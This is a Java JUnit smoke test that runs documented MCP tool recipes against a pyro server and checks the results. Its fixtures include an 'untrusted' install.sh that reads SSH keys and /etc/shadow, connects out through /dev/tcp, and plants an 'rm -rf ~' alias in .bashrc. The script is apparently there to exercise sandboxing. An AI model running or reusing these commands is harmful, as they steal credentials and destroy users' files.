package dev.pyro.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.pyro.contract.ToolProfile;
import dev.pyro.json.JsonSupport;
import io.modelcontextprotocol.client.McpSyncClient;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Every recipe in docs/use-cases/ runs here exactly as written: its {@code pyro-recipe} block
 * of tool calls goes through a real {@code pyro mcp serve} in the recipe's profile, every result
 * is checked against its tool's output schema and against the recipe's expectations.
 *
 * <p>A step is one JSON object per line: {@code tool} and {@code arguments}; {@code expect}
 * (field → value: strings must be contained, anything else equal; nested fields with dots);
 * {@code refute} (field → text it must not contain);
 * {@code expect_error} (the call must fail, saying this); {@code save} (variable → field, used
 * later as {{variable}}); or {@code host_file} with {@code contains}, to check a file an export
 * wrote. {@code {{repo}}}, {@code {{untrusted}}}, {@code {{fix_patch}}} and {@code {{out}}} (an
 * empty host directory) are the fixtures below.
 */
@Tag("smoke")
class RecipeSmokeTest {
    private static final Path RECIPES = Path.of("..", "docs", "use-cases");
    private static final Pattern PROFILE = Pattern.compile("\\*\\*Profile:\\*\\* `([a-z-]+)`");
    private static final Pattern BLOCK = Pattern.compile("```pyro-recipe\\n(.*?)```", Pattern.DOTALL);
    private static final Pattern VARIABLE = Pattern.compile("\\{\\{([a-z_]+)}}");

    @TempDir
    Path dir;
    private McpSyncClient client;

    @AfterEach
    void stop() {
        if (client != null) {
            client.closeGracefully();
        }
    }

    static Stream<Path> recipes() throws IOException {
        try (Stream<Path> files = Files.list(RECIPES)) {
            List<Path> recipes = files.filter(f -> f.toString().endsWith(".md") && !f.getFileName().toString().equals("README.md"))
                    .sorted().toList();
            assertThat(recipes).as("recipes in " + RECIPES).hasSizeGreaterThanOrEqualTo(5);
            return recipes.stream();
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("recipes")
    void theRecipeRunsAsWritten(Path recipe) throws Exception {
        String text = Files.readString(recipe);
        Matcher profile = PROFILE.matcher(text);
        assertThat(profile.find()).as(recipe + " names its profile as **Profile:** `...`").isTrue();
        Matcher block = BLOCK.matcher(text);
        assertThat(block.find()).as(recipe + " has a pyro-recipe block").isTrue();

        Map<String, String> variables = fixtures();
        client = McpServers.stdio(dir.resolve("home"), new StringBuilder(), "--profile", ToolProfile.parse(profile.group(1)).id());
        McpCoreLoop loop = new McpCoreLoop(client);
        int number = 0;
        for (String line : block.group(1).split("\n")) {
            if (line.isBlank()) {
                continue;
            }
            number++;
            JsonNode step = JsonSupport.mapper().readTree(line);
            String where = recipe.getFileName() + " step " + number + ": " + line;
            if (step.has("host_file")) {
                Path file = Path.of(substitute(step.get("host_file").asText(), variables));
                assertThat(Files.readString(file)).as(where).contains(step.get("contains").asText());
                continue;
            }
            String tool = step.get("tool").asText();
            @SuppressWarnings("unchecked")
            Map<String, Object> arguments = (Map<String, Object>) substituteAll(
                    JsonSupport.mapper().convertValue(step.path("arguments"), Map.class), variables);
            if (step.has("expect_error")) {
                assertThat(loop.error(tool, arguments)).as(where).contains(step.get("expect_error").asText());
                continue;
            }
            Map<String, Object> result = loop.ok(tool, arguments);
            step.path("expect").fields().forEachRemaining(e -> checkField(where, result, e.getKey(), e.getValue()));
            step.path("refute").fields().forEachRemaining(e -> assertThat(String.valueOf(field(result, e.getKey())))
                    .as(where + " → " + e.getKey()).doesNotContain(e.getValue().asText()));
            step.path("save").fields().forEachRemaining(e -> variables.put(e.getKey(), String.valueOf(field(result, e.getValue().asText()))));
        }
        assertThat(number).as(recipe + " has steps").isPositive();
    }

    private static void checkField(String where, Map<String, Object> result, String path, JsonNode expected) {
        Object actual = field(result, path);
        if (expected.isTextual()) {
            assertThat(String.valueOf(actual)).as(where + " → " + path).contains(expected.asText());
        } else {
            JsonNode actualNode = JsonSupport.mapper().valueToTree(actual);
            assertThat(actualNode).as(where + " → " + path).isEqualTo(expected);
        }
    }

    /** A field by dotted path, e.g. {@code summary.total}. */
    @SuppressWarnings("unchecked")
    private static Object field(Map<String, Object> result, String path) {
        Object value = result;
        for (String part : path.split("\\.")) {
            value = value instanceof Map<?, ?> map ? ((Map<String, Object>) map).get(part) : null;
        }
        return value;
    }

    /** The fixtures recipes may name: a small repo with a failing test and its fix, an untrusted script, an output path. */
    private Map<String, String> fixtures() throws Exception {
        Path repo = McpCoreLoop.seedRepo(dir);
        Path untrusted = Files.createDirectories(dir.resolve("untrusted"));
        Files.writeString(untrusted.resolve("install.sh"), """
                #!/bin/sh
                # A "helpful" installer from the internet.
                cat ~/.ssh/id_rsa /etc/shadow 2>/dev/null && echo "stole secrets"
                (exec 3<>/dev/tcp/203.0.113.7/80) 2>/dev/null && echo "phoned home"
                echo 'alias ls="rm -rf ~"' >> ~/.bashrc
                echo installed > installed.txt
                echo done
                """);
        Map<String, String> variables = new HashMap<>();
        variables.put("repo", repo.toString());
        variables.put("untrusted", untrusted.toString());
        variables.put("fix_patch", McpCoreLoop.FIX);
        variables.put("out", Files.createDirectories(dir.resolve("out")).toString());
        return variables;
    }

    private static Object substituteAll(Object value, Map<String, String> variables) {
        if (value instanceof String text) {
            return substitute(text, variables);
        }
        if (value instanceof Map<?, ?> map) {
            Map<String, Object> copy = new LinkedHashMap<>();
            map.forEach((k, v) -> copy.put((String) k, substituteAll(v, variables)));
            return copy;
        }
        if (value instanceof List<?> list) {
            List<Object> copy = new ArrayList<>();
            list.forEach(v -> copy.add(substituteAll(v, variables)));
            return copy;
        }
        return value;
    }

    private static String substitute(String text, Map<String, String> variables) {
        Matcher matcher = VARIABLE.matcher(text);
        StringBuilder out = new StringBuilder();
        while (matcher.find()) {
            String value = variables.get(matcher.group(1));
            assertThat(value).as("recipe variable {{" + matcher.group(1) + "}}").isNotNull();
            matcher.appendReplacement(out, Matcher.quoteReplacement(value));
        }
        matcher.appendTail(out);
        return out.toString();
    }
}
